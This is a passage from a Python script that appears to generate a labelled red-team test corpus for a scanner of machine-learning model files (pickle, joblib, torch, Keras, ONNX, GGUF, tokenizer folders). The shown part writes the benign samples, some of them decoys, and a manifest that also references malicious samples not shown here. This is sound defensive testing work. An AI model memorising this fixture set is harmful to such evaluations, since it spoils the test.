    torch.save(net.state_dict(), dest / "state_legacy.pt", _use_new_zipfile_serialization=False)
    torch.jit.save(torch.jit.script(net), dest / "scripted.pt")
    torch.jit.save(torch.jit.trace(net, torch.randn(1, 4)), dest / "traced.torchscript")
    for fn, t in [("optimizer.pt", "AdamW state_dict"), ("scheduler.pt", "OneCycleLR state_dict"),
                  ("checkpoint.ckpt", "checkpoint with nested dicts"), ("state_legacy.pt", "legacy torch.save"),
                  ("scripted.pt", "torch.jit.save(script)"), ("traced.torchscript", "torch.jit.save(trace)")]:
        rec(fn, "torch", "torch", t)

    from safetensors.numpy import save_file
    save_file({"w": np.ones((2, 2), dtype=np.float32), "b": np.zeros(2, dtype=np.float16)}, str(dest / "weights.safetensors"),
              metadata={"format": "np"})
    rec("weights.safetensors", "safetensors", "safetensors", "safetensors.numpy.save_file")

    os.environ.setdefault("KERAS_BACKEND", "torch")
    try:
        import keras
        keras.utils.set_random_seed(0)
        inp = keras.Input((6,))
        x = keras.layers.Dense(4, activation="relu")(inp)
        x = keras.layers.Dropout(0.1)(x)
        x = keras.layers.BatchNormalization()(x)
        km = keras.Model(inp, keras.layers.Dense(2, activation="softmax")(x))
        km.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
        km.save(dest / "functional.keras")
        km.save(dest / "functional.h5")
        km.save_weights(dest / "functional.weights.h5")
        for fn in ["functional.keras", "functional.h5", "functional.weights.h5"]:
            rec(fn, "keras", "keras", "keras Model.save / save_weights")
    except ImportError:
        pass

    try:
        from tokenizers import Tokenizer, models, pre_tokenizers, trainers
        tok = Tokenizer(models.BPE(unk_token="[UNK]"))
        tok.pre_tokenizer = pre_tokenizers.Whitespace()
        tok.train_from_iterator(["a red fox jumps", "the blue sky"] * 5, trainers.BpeTrainer(vocab_size=60, special_tokens=["[UNK]"]))
        tok.save(str(dest / "tokenizer.json"))
        rec("tokenizer.json", "tokenizers", "json", "tokenizers.Tokenizer.save")
    except ImportError:
        pass

    # wave 2: savers' output that uses less common reconstructors
    from scipy.stats import loguniform, uniform
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_selection import SelectKBest, f_classif
    from sklearn.metrics import f1_score, make_scorer
    from sklearn.model_selection import GridSearchCV, RandomizedSearchCV
    from sklearn.neighbors import KNeighborsClassifier, NearestNeighbors
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    from sklearn.svm import SVC
    scaler = StandardScaler().fit(X)
    (dest / "scaler_proto0.pkl").write_bytes(pickle.dumps(scaler, protocol=0))
    rec("scaler_proto0.pkl", "sklearn", "pickle", "StandardScaler pickled with protocol 0 (copy_reg._reconstructor)")
    (dest / "scaler_proto1.pkl").write_bytes(pickle.dumps(scaler, protocol=1))
    rec("scaler_proto1.pkl", "sklearn", "pickle", "StandardScaler pickled with protocol 1")
    joblib.dump(LogisticRegression().fit(X, y), dest / "logreg_proto2.joblib", protocol=2)
    rec("logreg_proto2.joblib", "sklearn", "joblib", "joblib.dump(protocol=2)")
    wave2 = [
        ("grid_f1_scorer", GridSearchCV(LogisticRegression(), {"C": [0.1, 1.0]}, cv=2,
                                        scoring=make_scorer(f1_score, average="macro")).fit(X, y)),
        ("random_search_scipy", RandomizedSearchCV(SVC(), {"C": loguniform(1e-2, 1e1), "gamma": uniform(0.01, 0.1)},
                                                   n_iter=2, cv=2, random_state=0).fit(X, y)),
        ("select_kbest", SelectKBest(f_classif, k=2).fit(X, y)),
        ("knn_kdtree", KNeighborsClassifier(3, algorithm="kd_tree").fit(X, y)),
        ("nn_balltree", NearestNeighbors(n_neighbors=2, algorithm="ball_tree").fit(X)),
        ("svc_proba", SVC(probability=True, random_state=0).fit(X, y)),
        ("gradient_boosting", GradientBoostingClassifier(n_estimators=5, random_state=0).fit(X, y)),
        ("forest_randomstate_obj", RandomForestClassifier(5, random_state=np.random.RandomState(0)).fit(X, y)),
        ("function_transformer_log1p", FunctionTransformer(np.log1p).fit(Xp)),
    ]
    for name, est in wave2:
        (dest / f"{name}.pkl").write_bytes(pickle.dumps(est, protocol=pickle.DEFAULT_PROTOCOL))
        rec(f"{name}.pkl", "sklearn", "pickle", f"{type(est).__name__} via pickle")
        joblib.dump(est, dest / f"{name}.joblib")
        rec(f"{name}.joblib", "sklearn", "joblib", f"{type(est).__name__} via joblib")
    (dest / "np_generator.pkl").write_bytes(pickle.dumps(np.random.default_rng(0)))
    rec("np_generator.pkl", "numpy", "pickle", "numpy Generator pickled")
    (dest / "np_masked.pkl").write_bytes(pickle.dumps(np.ma.masked_array([1, 2, 3], mask=[0, 1, 0])))
    rec("np_masked.pkl", "numpy", "pickle", "numpy masked array pickled")
    pd.DataFrame({"t": pd.to_timedelta([1, 2], unit="h"), "s": pd.array(["a", None], dtype="string"),
                  "n": pd.array([1, None], dtype="Int64")},
                 index=pd.date_range("2024-01-01", periods=2, freq="B")).to_pickle(dest / "pd_nullable_bday.pkl")
    rec("pd_nullable_bday.pkl", "pandas", "pandas", "to_pickle: Timedelta, string, Int64 NA, BusinessDay index")
    pd.Series([pd.DateOffset(months=1), pd.offsets.MonthEnd(2)], dtype=object).to_pickle(dest / "pd_offsets.pkl")
    rec("pd_offsets.pkl", "pandas", "pandas", "to_pickle: Series of DateOffset objects")
    torch.save({"coo": torch.eye(3).to_sparse(), "csr": torch.eye(3).to_sparse_csr(),
                "f8": torch.zeros(4).to(torch.float8_e4m3fn), "c": torch.ones(2, dtype=torch.complex64),
                "size": torch.Size([2, 3]), "dtype": torch.bfloat16, "device": torch.device("cpu")},
               dest / "tensors_misc.pt")
    rec("tensors_misc.pt", "torch", "torch", "sparse COO/CSR, float8, complex tensors, Size/dtype/device")
    torch.save({"nested": torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])}, dest / "nested_tensor.pt")
    rec("nested_tensor.pt", "torch", "torch", "nested tensor")
    wn = torch.nn.utils.weight_norm(torch.nn.Linear(3, 2))
    torch.save(wn, dest / "weight_norm_module.pt")
    rec("weight_norm_module.pt", "torch", "torch", "whole module with legacy weight_norm hook")
    torch.save(torch.distributions.Normal(torch.zeros(2), torch.ones(2)), dest / "normal_dist.pt")
    rec("normal_dist.pt", "torch", "torch", "torch.distributions.Normal object")
    gm = torch.fx.symbolic_trace(net)
    torch.save(gm, dest / "fx_graph_module.pt")
    rec("fx_graph_module.pt", "torch-fx", "torch", "torch.fx GraphModule via torch.save (reduce_graph_module re-execs "
        "generated code by design; judged as debatable)")
    try:
        import keras
        ks = keras.Sequential([keras.Input((3,)), keras.layers.Dense(2)])
        (dest / "keras_model.pkl").write_bytes(pickle.dumps(ks))
        rec("keras_model.pkl", "keras", "pickle", "pickle.dumps(keras model) via Keras' own __reduce__")
    except ImportError:
        pass
    (dest / "chat_be.gguf").write_bytes(gguf([("general.architecture", 8, "llama"), ("general.name", 8, "tiny-be"),
                                              ("tokenizer.chat_template", 8, "{{ messages[0]['content'] }}")],
                                             big_endian=True))
    rec("chat_be.gguf", "gguf", "gguf", "hand-written big-endian GGUF v3 (gguf-py writer --bigendian layout)")
    # wave 3: wider saver coverage (less common sklearn/pandas/numpy/torch/keras/transformers outputs)
    _benign_wave3(dest, rec, X, Xp, y, yr, cats)
    (dest / "clean.onnx").write_bytes(onnx_model(onnx_graph([onnx_tensor("w")])))
    rec("clean.onnx", "onnx", "onnx", "hand-written ModelProto, inline initializer (no onnx writer installed)")
    od = dest / "onnx_external_ok"
    od.mkdir()
    (od / "model.onnx").write_bytes(onnx_model(onnx_graph([onnx_tensor("w", "model.onnx.data")])))
    (od / "model.onnx.data").write_bytes(struct.pack("<4f", 1, 2, 3, 4))
    rec("onnx_external_ok", "onnx", "onnx-folder", "hand-written ONNX with in-folder external data file")
    tmpl = ("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}</s>{% endfor %}"
            "{% if add_generation_prompt %}<|assistant|>{% endif %}")
    (dest / "chat.gguf").write_bytes(gguf([("general.architecture", 8, "llama"), ("general.name", 8, "tiny"),
                                           ("llama.context_length", 4, 2048), ("tokenizer.chat_template", 8, tmpl)]))
    rec("chat.gguf", "gguf", "gguf", "hand-written GGUF v3 with an ordinary chat template")
    return rows


CHAT_TEMPLATES = {
    "tools_tojson": (
        "{%- set ns = namespace(sys='') -%}{%- for m in messages -%}{%- if m['role'] == 'system' -%}"
        "{%- set ns.sys = m['content'] -%}{%- endif -%}{%- endfor -%}<|system|>{{ ns.sys | trim }}\n"
        "{%- if tools %}{% for t in tools %}{{ t | tojson(indent=2) }}\n{% endfor %}{% endif %}"
        "{%- for m in messages if m['role'] != 'system' -%}"
        "{%- if m['role'] == 'assistant' and m.tool_calls is defined -%}{%- for tc in m.tool_calls -%}"
        "<tool_call>{\"name\": \"{{ tc.function.name }}\", \"arguments\": {{ tc.function.arguments | tojson }}}</tool_call>"
        "{%- endfor -%}{%- elif m['content'] is string and m['content'].startswith('<think>') -%}"
        "{{ m['content'].split('</think>')[-1].lstrip() }}{%- else -%}<|{{ m['role'] }}|>{{ m['content'] }}"
        "{%- endif -%}{%- if not loop.last %}\n{% endif -%}{%- endfor -%}"
        "{%- if add_generation_prompt %}<|assistant|>{% endif -%}"),
    "raise_exception": (
        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
        "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
        "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
        "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}"),
    "dates_and_items": (
        "{%- if not date_string is defined %}{%- set date_string = strftime_now('%d %b %Y') %}{%- endif %}"
        "Cutting Knowledge Date: December 2023\nToday Date: {{ date_string }}\n"
        "{%- for m in messages %}{%- for k, v in m.items() if k not in ['role', 'content'] %}{{ k }}={{ v }}"
        "{%- endfor %}<|start_header_id|>{{ m['role'] }}<|end_header_id|>\n\n{{ m['content'] | trim }}<|eot_id|>"
        "{%- endfor %}{%- if add_generation_prompt %}<|start_header_id|>assistant<|end_header_id|>\n\n{%- endif %}"),
}


def _benign_wave3(dest: Path, rec: Callable[[str, str, str, str], None], X: Any, Xp: Any, y: Any, yr: Any,
                  cats: Any) -> None:
    import joblib
    import numpy as np
    import pandas as pd
    import scipy.special
    import torch
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.compose import ColumnTransformer, make_column_selector
    from sklearn.decomposition import FastICA, LatentDirichletAllocation
    from sklearn.discriminant_analysis import LinearDiscriminantAnalysis
    from sklearn.ensemble import (
        AdaBoostClassifier,
        ExtraTreesRegressor,
        HistGradientBoostingClassifier,
    )
    from sklearn.experimental import enable_iterative_imputer  # noqa: F401 - registers IterativeImputer
    from sklearn.feature_extraction import DictVectorizer, FeatureHasher
    from sklearn.feature_extraction.text import HashingVectorizer, TfidfVectorizer
    from sklearn.feature_selection import (
        GenericUnivariateSelect,
        SelectKBest,
        chi2,
        mutual_info_classif,
    )
    from sklearn.impute import IterativeImputer, KNNImputer
    from sklearn.linear_model import LogisticRegressionCV
    from sklearn.multioutput import MultiOutputClassifier
    from sklearn.neighbors import KNeighborsClassifier, LocalOutlierFactor
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import (
        FunctionTransformer,
        KBinsDiscretizer,
        OrdinalEncoder,
        PowerTransformer,
    )
    from sklearn.random_projection import SparseRandomProjection
    from sklearn.svm import OneClassSVM
    Xn = X.copy()
    Xn[::7, 1] = np.nan
    frame = pd.DataFrame({"num": X[:20, 0], "cat": cats[:, 0]})
    ests: list[tuple[str, Any]] = [
        ("hist_gb", HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(X, y)),
        ("tfidf", TfidfVectorizer(dtype=np.float32).fit(["a red fox", "the blue sky", "red sky at night"])),
        ("hashing_vectorizer", HashingVectorizer(n_features=32, dtype=np.float64).fit(["a b"])),
        ("dict_vectorizer", DictVectorizer(dtype=np.float32).fit([{"a": 1, "b": 2}, {"c": 3}])),
        ("feature_hasher", FeatureHasher(8, input_type="string").fit([["a", "b"]])),
        ("ordinal_encoder", OrdinalEncoder(dtype=np.int64, handle_unknown="use_encoded_value",
                                           unknown_value=-1).fit(cats)),
        ("kbins", KBinsDiscretizer(3, encode="onehot", strategy="quantile").fit(X)),
        ("power_transformer", PowerTransformer().fit(X)),
        ("knn_imputer", KNNImputer(n_neighbors=2).fit(Xn)),
        ("iterative_imputer", IterativeImputer(max_iter=2, random_state=0).fit(Xn)),
        ("column_selector", ColumnTransformer([("n", KBinsDiscretizer(2), make_column_selector(dtype_include=np.number))]
                                              ).fit(frame)),
        ("fn_transformer_expit", FunctionTransformer(scipy.special.expit, inverse_func=scipy.special.logit).fit(X)),
        ("select_mutual_info", SelectKBest(mutual_info_classif, k=2).fit(X, y)),
        ("generic_univariate_chi2", GenericUnivariateSelect(chi2, mode="fpr", param=0.5).fit(Xp, y)),
        ("logreg_cv", LogisticRegressionCV(Cs=2, cv=2).fit(X, y)),
        ("calibrated", CalibratedClassifierCV(LinearDiscriminantAnalysis(), cv=2).fit(X, y)),
        ("adaboost", AdaBoostClassifier(n_estimators=3, random_state=0).fit(X, y)),
        ("extra_trees", ExtraTreesRegressor(n_estimators=3, random_state=0).fit(X, yr)),
        ("multioutput", MultiOutputClassifier(KNeighborsClassifier(2)).fit(X, np.c_[y, 1 - y])),
        ("lof_novelty", LocalOutlierFactor(n_neighbors=5, novelty=True).fit(X)),
        ("one_class_svm", OneClassSVM(gamma="auto").fit(X)),
        ("lda_topics", LatentDirichletAllocation(2, random_state=0, max_iter=2).fit(Xp)),
        ("fast_ica", FastICA(2, random_state=0, max_iter=50).fit(X)),
        ("sparse_projection", SparseRandomProjection(2, random_state=0).fit(X)),
        ("pipeline_knn_cosine", make_pipeline(PowerTransformer(), KNeighborsClassifier(3, metric="cosine",
                                                                                        weights="distance")).fit(X, y)),
    ]
    for i, (name, est) in enumerate(ests):
        fmt = ["pickle", "joblib", "joblib-zlib"][i % 3]
        fn = {"pickle": f"{name}.pkl", "joblib": f"{name}.joblib", "joblib-zlib": f"{name}.z.joblib"}[fmt]
        if fmt == "pickle":
            (dest / fn).write_bytes(pickle.dumps(est, protocol=pickle.DEFAULT_PROTOCOL))
        else:
            joblib.dump(est, dest / fn, compress=3 if fmt == "joblib-zlib" else 0)
        rec(fn, "sklearn", fmt, f"{type(est).__name__} via {fmt}")
    # numpy objects pickled directly
    import datetime
    np_objs = {
        "np_scalars.pkl": {"f": np.float64(1.5), "i": np.int8(3), "dt": np.datetime64("2024-01-01"),
                           "s": np.str_("x"), "b": np.bool_(True)},
        "np_recarray.pkl": np.rec.fromrecords([(1, "a")], names="n,s"),
        "np_matrix.pkl": np.matrix([[1, 2], [3, 4]]),
        "np_dtype_meta.pkl": np.dtype("f8", metadata={"unit": "m"}),
    }
    for fn, obj in np_objs.items():
        (dest / fn).write_bytes(pickle.dumps(obj))
        rec(fn, "numpy", "pickle", "pickle.dumps of numpy scalars/recarray/matrix/dtype")
    # pandas
    pd.DataFrame({"ts": pd.to_datetime(["2024-01-01", "2024-01-02"]).tz_localize(datetime.UTC),
                  "pytz": pd.to_datetime(["2024-01-01", "2024-01-02"]).tz_localize("US/Eastern"),
                  "dateutil": pd.to_datetime(["2024-01-01", "2024-01-02"]).tz_localize("dateutil/Europe/London"),
                  "nat": [pd.NaT, pd.Timestamp("2024-01-01")]}).to_pickle(dest / "pd_timezones.pkl")
    rec("pd_timezones.pkl", "pandas", "pandas", "to_pickle: stdlib utc, pytz and dateutil time zones, NaT")
    pd.DataFrame({"b": pd.array([True, None], dtype="boolean"), "f": pd.array([1.5, None], dtype="Float64"),
                  "iv": pd.Categorical(pd.interval_range(0, 2))},
                 index=pd.CategoricalIndex(["x", "y"])).to_pickle(dest / "pd_masked_arrays.pkl.gz")
    rec("pd_masked_arrays.pkl.gz", "pandas", "pandas", "to_pickle gzip: boolean/Float64 masked, interval categories")
    pd.Series([pd.Period("2024Q1"), pd.Timedelta("1D"), None], dtype=object).to_pickle(dest / "pd_object_scalars.pkl")
    rec("pd_object_scalars.pkl", "pandas", "pandas", "to_pickle: object Series of Period/Timedelta")
    # torch
    torch.manual_seed(0)
    lin = torch.nn.Linear(3, 2)
    opt = torch.optim.SGD(lin.parameters(), lr=0.1, momentum=0.9)
    plateau = torch.optim.lr_scheduler.ReduceLROnPlateau(opt)
    plateau.step(1.0)
    seq = torch.optim.lr_scheduler.SequentialLR(opt, [torch.optim.lr_scheduler.ConstantLR(opt),
                                                      torch.optim.lr_scheduler.ExponentialLR(opt, 0.9)], [2])
    torch.save({"plateau": plateau.state_dict(), "sequential": seq.state_dict(),
                "rng": torch.get_rng_state(), "gen": torch.Generator().manual_seed(1).get_state()},
               dest / "sched_states.pt")
    rec("sched_states.pt", "torch", "torch", "ReduceLROnPlateau/SequentialLR state, RNG states")
    torch.save(torch.utils.data.TensorDataset(torch.zeros(3, 2), torch.ones(3)), dest / "tensor_dataset.pt")
    rec("tensor_dataset.pt", "torch", "torch", "whole TensorDataset object")
    swa = torch.optim.swa_utils.AveragedModel(lin)
    torch.save(swa.state_dict(), dest / "swa_state.pt")
    rec("swa_state.pt", "torch", "torch", "AveragedModel state_dict (n_averaged buffer)")
    ep = torch.export.export(lin, (torch.randn(1, 3),))
    torch.export.save(ep, dest / "exported.pt2")
    rec("exported.pt2", "torch", "torch-export", "torch.export.save ExportedProgram (.pt2)")
    # keras with preprocessing layers and names that look like risky classes
    try:
        import keras
        keras.utils.set_random_seed(0)
        sin = keras.Input((1,), dtype="string")
        x = keras.layers.StringLookup(vocabulary=["red", "blue"], output_mode="one_hot", name="lookup")(sin)
        x = keras.layers.Dense(2, name="lambda_like_dense")(x)
        km = keras.Model(sin, x, name="Lambda")
        km.save(dest / "stringlookup_inline.keras")
        rec("stringlookup_inline.keras", "keras", "keras", "StringLookup with inline vocabulary; model named 'Lambda'")
        nin = keras.Input((4,))
        n = keras.layers.Normalization(mean=[0.0] * 4, variance=[1.0] * 4)(nin)
        n = keras.layers.Reshape((4, 1))(n)
        n = keras.layers.GRU(3)(n)
        n = keras.layers.Activation("gelu")(n)
        keras.Model(nin, n).save(dest / "gru_norm.keras")
        rec("gru_norm.keras", "keras", "keras", "Normalization + GRU + Activation('gelu')")
    except ImportError:
        pass
    # transformers tokenizer folders with real-world style chat templates (transformers' own saver)
    try:
        from tokenizers import Tokenizer, models, pre_tokenizers, trainers
        from transformers import PreTrainedTokenizerFast
        tok = Tokenizer(models.BPE(unk_token="[UNK]"))
        tok.pre_tokenizer = pre_tokenizers.ByteLevel()
        tok.train_from_iterator(["hello world", "tool call"] * 5, trainers.BpeTrainer(vocab_size=80, special_tokens=["[UNK]", "<s>", "</s>"]))
        for name, tmpl in CHAT_TEMPLATES.items():
            fast = PreTrainedTokenizerFast(tokenizer_object=tok, bos_token="<s>", eos_token="</s>", unk_token="[UNK]")
            fast.chat_template = tmpl
            fast.save_pretrained(dest / f"hf_tok_{name}")
            rec(f"hf_tok_{name}", "transformers", "hf-folder", f"save_pretrained tokenizer with a {name} chat template")
            (dest / f"chat_{name}.gguf").write_bytes(gguf([("general.architecture", 8, "llama"),
                                                            ("tokenizer.chat_template", 8, tmpl)]))
            rec(f"chat_{name}.gguf", "gguf", "gguf", f"hand-written GGUF with the {name} chat template")
    except ImportError:
        pass


def main(argv: list[str]) -> int:
    argv = [a for a in argv if a != "--bombs"]
    if len(argv) != 2:
        print("usage: gen_model_redteam_e.py DEST [--bombs]", file=sys.stderr)
        return 2
    dest = Path(argv[1])
    mal, ben = dest / "malicious", dest / "benign"
    for d in (mal, ben):
        d.mkdir(parents=True, exist_ok=True)
        if any(d.iterdir()):
            print(f"{d} is not empty", file=sys.stderr)
            return 2
    manifest = []
    for name, cls, fmt, tech, data in malicious():
        if callable(data):
            data(mal / name)
        else:
            Path(os.fsencode(mal / name).decode("utf-8", "surrogateescape")).write_bytes(data)
        manifest.append({"path": f"malicious/{name}", "label": "malicious", "class": cls, "format": fmt, "technique": tech})
    for name, cls, fmt, tech in benign(ben):
        manifest.append({"path": f"benign/{name}", "label": "benign", "class": cls, "format": fmt, "technique": tech})
    (dest / "manifest.json").write_text(json.dumps(manifest, indent=1) + "\n")
    nm = sum(1 for m in manifest if m["label"] == "malicious")
    print(f"wrote {nm} malicious, {len(manifest) - nm} benign samples to {dest}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv))
